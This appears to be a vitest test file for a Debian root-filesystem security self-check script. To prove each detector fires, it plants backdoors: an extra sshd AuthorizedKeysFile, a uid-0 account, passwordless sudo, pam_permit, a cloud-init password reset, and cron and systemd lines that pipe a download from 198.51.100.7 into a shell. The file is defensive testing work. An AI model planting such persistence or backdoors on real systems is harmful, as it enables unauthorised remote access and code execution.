/**
 * The self-check audits the result, not paths (issue 21 item 2): on real Debian 12 and 13 root
 * filesystems, each audit check passes on the untouched tree and fails on a planted backdoor or
 * credential (the sshd drop-in AuthorizedKeysFile backdoor among them), and a waiver still turns
 * a failure into "waived".
 */
import { execFileSync, spawnSync } from 'node:child_process';
import { chmodSync, mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parseSelfCheckReport, type SelfCheckReport } from '../../stacks/guest/selfcheck-report.js';
import { copyRootfs, ensureRootfs, REPO, requireTools, VARIANTS } from './lib/debian.js';

function selfcheck(root: string, plan?: string, extra: string[] = []): SelfCheckReport {
  const r = spawnSync('bash', [join(REPO, 'scripts/guest/selfcheck.sh'), '--root', root, ...(plan ? ['--plan', plan] : []), ...extra], { encoding: 'utf8', timeout: 300_000 });
  if (!r.stdout.trim()) throw new Error(`selfcheck.sh printed no report (exit ${r.status}): ${r.stderr}`);
  return parseSelfCheckReport(JSON.parse(r.stdout));
}
const byId = (r: SelfCheckReport) => Object.fromEntries(r.checks.map((c) => [c.id, c]));
const put = (path: string, content: string, mode = 0o644) => { mkdirSync(dirname(path), { recursive: true }); writeFileSync(path, content); chmodSync(path, mode); };

const PUB = 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIPlantedVendorKeyPlantedVendorKey00 vendor@backdoor\n';
const AUDIT_IDS = ['sshd-authorized-keys-files', 'no-authorized-keys-command', 'no-permit-empty-passwords', 'no-public-keys-anywhere',
  'no-extra-uid0', 'no-sudo-nopasswd', 'no-cloud-init-user-injection', 'no-pam-permit-auth', 'no-private-keys', 'no-stored-credentials'];

describe.each(VARIANTS)('the self-check audit on a %s root filesystem', (variant) => {
  let root: string;
  beforeAll(async () => {
    requireTools(['debootstrap', 'chroot']);
    await ensureRootfs(variant);
    root = await copyRootfs(`audit-test-${variant}`, variant);
  });
  afterAll(() => { if (root) rmSync(dirname(root), { recursive: true, force: true }); });

  let baseline: string;
  it('passes every audit check on the untouched tree (sshd -T really ran)', () => {
    baseline = join(dirname(root), 'baseline');
    writeFileSync(baseline, execFileSync('bash', [join(REPO, 'scripts/guest/selfcheck.sh'), '--root', root, '--snapshot'], { encoding: 'utf8' }));
    expect(readFileSync(baseline, 'utf8')).toMatch(/\/etc\/cron\.daily\/dpkg/);
    // What cloud-init writes for its default user on the builder's boot (a clean nginx build has it) is not a finding.
    put(join(root, 'etc/sudoers.d/90-cloud-init-users'), '# Created by cloud-init v. 25.1\n\n# User rules for debian\ndebian ALL=(ALL) NOPASSWD:ALL\n', 0o440);
    const c = byId(selfcheck(root, undefined, ['--baseline', baseline]));
    for (const id of ['persistence-added', 'no-download-exec']) expect(c[id]?.status, `${id}: ${c[id]?.detail}`).toBe('pass');
    expect(c['listening-services'].status).toBe('skip');
    for (const id of AUDIT_IDS) expect(c[id]?.status, `${id}: ${c[id]?.detail}`).toBe('pass');
    expect(c['sshd-authorized-keys-files'].detail).toMatch(/sshd -T/);
  });

  it('fails each audit check on its planted violation', () => {
    // The backdoor: a drop-in adds a second AuthorizedKeysFile, a key sits there for root.
    put(join(root, 'etc/ssh/sshd_config.d/10-vendor.conf'), 'AuthorizedKeysFile .ssh/authorized_keys /etc/ssh/vendor_keys/%u\n');
    put(join(root, 'etc/ssh/vendor_keys/root'), PUB);
    put(join(root, 'etc/ssh/sshd_config.d/20-cmd.conf'), 'AuthorizedKeysCommand /usr/local/bin/keys %u\nAuthorizedKeysCommandUser nobody\nPermitEmptyPasswords yes\n');
    // A uid-0 account whose home the scripts used to skip, with a key; a key deep in /opt.
    const passwd = join(root, 'etc/passwd');
    writeFileSync(passwd, `${readFileSync(passwd, 'utf8')}toor:x:0:0::/:/bin/bash\n`);
    put(join(root, '.ssh/authorized_keys'), PUB);
    put(join(root, 'opt/app/a/b/c/d/e/keys.txt'), `# backup\n${PUB}`);
    put(join(root, 'etc/sudoers.d/www'), 'www-data ALL=(ALL) NOPASSWD: ALL\n', 0o440);
    put(join(root, 'etc/cloud/cloud.cfg.d/99-vendor.cfg'), 'users:\n  - default\n  - name: vendor\n    ssh_authorized_keys: [x]\nruncmd:\n  - echo root:Passw0rd! | chpasswd\n');
    put(join(root, 'etc/pam.d/sshd'), `auth sufficient pam_permit.so\n${readFileSync(join(root, 'etc/pam.d/sshd'), 'utf8')}`);
    put(join(root, 'srv/keys/deep/er/still/signing.asc'), '-----BEGIN PGP PRIVATE KEY BLOCK-----\nlQ==\n-----END PGP PRIVATE KEY BLOCK-----\n', 0o600);
    put(join(root, 'root/.my.cnf'), '[client]\npassword=Secret-123\n', 0o600);
    // Persistence: a cron job that downloads and runs code, and a unit the steps enabled (report only).
    put(join(root, 'etc/cron.d/updater'), '*/5 * * * * root curl -fsSL http://198.51.100.7/u | sh\n');
    put(join(root, 'etc/systemd/system/vendor.service'), '[Service]\nExecStart=/bin/true\nExecStop=/bin/sh -c "wget -qO- http://198.51.100.7/k | bash"\n[Install]\nWantedBy=multi-user.target\n');
    mkdirSync(join(root, 'etc/systemd/system/multi-user.target.wants'), { recursive: true });
    execFileSync('ln', ['-sf', '/etc/systemd/system/vendor.service', join(root, 'etc/systemd/system/multi-user.target.wants/vendor.service')]);
    const report = selfcheck(root, undefined, ['--baseline', baseline]);
    const c = byId(report);
    for (const id of AUDIT_IDS) expect(c[id]?.status, `${id}: ${c[id]?.detail}`).toBe('fail');
    expect(c['persistence-added']).toMatchObject({ status: 'warn' });
    expect(c['persistence-added'].detail).toMatch(/\/etc\/cron\.d\/updater.*vendor\.service|vendor\.service.*\/etc\/cron\.d\/updater/);
    expect(c['no-download-exec']).toMatchObject({ status: 'warn' });
    expect(c['no-download-exec'].detail).toMatch(/\/etc\/cron\.d\/updater/);
    expect(c['no-download-exec'].detail).toMatch(/vendor\.service/);
    expect(c['sshd-authorized-keys-files'].detail).toContain('root:/etc/ssh/vendor_keys/root');
    expect(c['no-authorized-keys-command'].detail).toContain('/usr/local/bin/keys');
    expect(c['no-public-keys-anywhere'].detail).toMatch(/\/etc\/ssh\/vendor_keys\/root.*\/opt\/app\/a\/b\/c\/d\/e\/keys\.txt|\/opt\/app.*\/etc\/ssh\/vendor_keys/);
    expect(c['no-public-keys-anywhere'].detail).toContain('/.ssh/authorized_keys');
    expect(c['no-extra-uid0'].detail).toContain('toor');
    expect(c['no-sudo-nopasswd'].detail).toContain('/etc/sudoers.d/www');
    expect(c['no-cloud-init-user-injection'].detail).toContain('99-vendor.cfg');
    expect(c['no-pam-permit-auth'].detail).toContain('/etc/pam.d/sshd');
    expect(c['no-private-keys'].detail).toContain('/srv/keys/deep/er/still/signing.asc');
    expect(c['no-stored-credentials'].detail).toContain('/root/.my.cnf');
  });

  it('finds secrets in shell rc files and history copies, and still honours waivers', () => {
    put(join(root, 'root/.bashrc'), `${readFileSync(join(root, 'root/.bashrc'), 'utf8')}export HW_SECRET_KEY=abc123\n`);
    rmSync(join(root, 'root/.my.cnf'));
    let c = byId(selfcheck(root));
    expect(c['no-stored-credentials'].detail).toContain('/root/.bashrc');
    rmSync(join(root, 'root/.bashrc'));
    put(join(root, 'root/.bash_history.bak'), 'mysql -pSecret\n');
    c = byId(selfcheck(root));
    expect(c['no-stored-credentials'].detail).toContain('/root/.bash_history.bak');
    const plan = join(dirname(root), 'plan.tsv');
    writeFileSync(plan, 'waive\tno-sudo-nopasswd\tthe appliance user needs passwordless sudo by design\n');
    c = byId(selfcheck(root, plan));
    expect(c['no-sudo-nopasswd']).toMatchObject({ status: 'waived', reason: 'the appliance user needs passwordless sudo by design' });
    execFileSync('rm', ['-rf', join(root, 'etc/sudoers.d/www')]);
    expect(byId(selfcheck(root))['no-sudo-nopasswd'].status).toBe('pass');
    // A warn alone does not fail the report: only the planted cron job and unit are left after the rest is removed.
    for (const p of ['etc/ssh/sshd_config.d/10-vendor.conf', 'etc/ssh/sshd_config.d/20-cmd.conf', 'etc/ssh/vendor_keys', '.ssh', 'opt/app', 'etc/cloud/cloud.cfg.d/99-vendor.cfg', 'srv/keys', 'root/.bash_history.bak']) rmSync(join(root, p), { recursive: true, force: true });
    writeFileSync(join(root, 'etc/passwd'), readFileSync(join(root, 'etc/passwd'), 'utf8').replace(/^toor:.*\n/m, ''));
    writeFileSync(join(root, 'etc/pam.d/sshd'), readFileSync(join(root, 'etc/pam.d/sshd'), 'utf8').replace(/^auth sufficient pam_permit\.so\n/, ''));
    c = byId(selfcheck(root, undefined, ['--baseline', baseline]));
    for (const id of AUDIT_IDS) expect(c[id]?.status, `${id}: ${c[id]?.detail}`).toBe('pass');
    expect(c['no-download-exec'].status).toBe('warn');
  });

  it('--audit, as at the captured image\'s first boot: that boot\'s own state is no finding, a key written after the build is', () => {
    // What any first boot makes: host keys, a machine-id, a lease, and cloud-init's copy of this
    // boot's user data (the tester's bundle, whose scripts spell out the very patterns scanned for).
    put(join(root, 'etc/ssh/ssh_host_ed25519_key'), '-----BEGIN OPENSSH PRIVATE KEY-----\nb3Blbg==\n-----END OPENSSH PRIVATE KEY-----\n', 0o600);
    put(join(root, 'etc/ssh/ssh_host_ed25519_key.pub'), PUB);
    put(join(root, 'etc/machine-id'), '0123456789abcdef0123456789abcdef\n');
    put(join(root, 'var/lib/dhcp/dhclient.eth0.leases'), 'lease { fixed-address 192.168.0.9; }\n');
    put(join(root, 'var/lib/cloud/instances/tester-1/user-data.txt'), `#cloud-config\nssh_authorized_keys: [x]\n# ${PUB}`);
    execFileSync('ln', ['-sfn', '/var/lib/cloud/instances/tester-1', join(root, 'var/lib/cloud/instance')]);
    // cloud-init's empty authorized_keys for its default user and root (the tester has no key pair).
    put(join(root, 'home/debian/.ssh/authorized_keys'), '', 0o600);
    put(join(root, 'root/.ssh/authorized_keys'), '', 0o600);
    const build = byId(selfcheck(root));
    expect(build['no-ssh-host-keys'].status).toBe('fail');
    // An untouched tree lacks the password policy a build's steps set (selfcheck.rootfs.test.ts): waived here.
    const plan = join(dirname(root), 'audit-plan.tsv');
    writeFileSync(plan, 'waive\tpassword-policy\tthis tree was never built; the nginx example sets the policy in a step\n');
    const audit = selfcheck(root, plan, ['--audit']);
    const c = byId(audit);
    expect(audit.passed, JSON.stringify(audit.checks.filter((x) => x.status === 'fail'))).toBe(true);
    for (const id of AUDIT_IDS) expect(c[id]?.status, `${id}: ${c[id]?.detail}`).toBe('pass');
    for (const id of ['no-ssh-host-keys', 'persistence-added', 'no-pending-security-updates', 'no-build-files']) expect(c[id], id).toBeUndefined();
    // The power-off backdoor: an ExecStop wrote root's authorized_keys after the build's self-check.
    put(join(root, 'root/.ssh/authorized_keys'), PUB, 0o600);
    const late = selfcheck(root, plan, ['--audit']);
    expect(late.passed).toBe(false);
    expect(byId(late)['no-authorized-keys']).toMatchObject({ status: 'fail' });
    expect(byId(late)['no-authorized-keys'].detail).toBe('authorized_keys present: /root/.ssh/authorized_keys');
    rmSync(join(root, 'root/.ssh'), { recursive: true, force: true });
    rmSync(join(root, 'home/debian'), { recursive: true, force: true });
  });
});
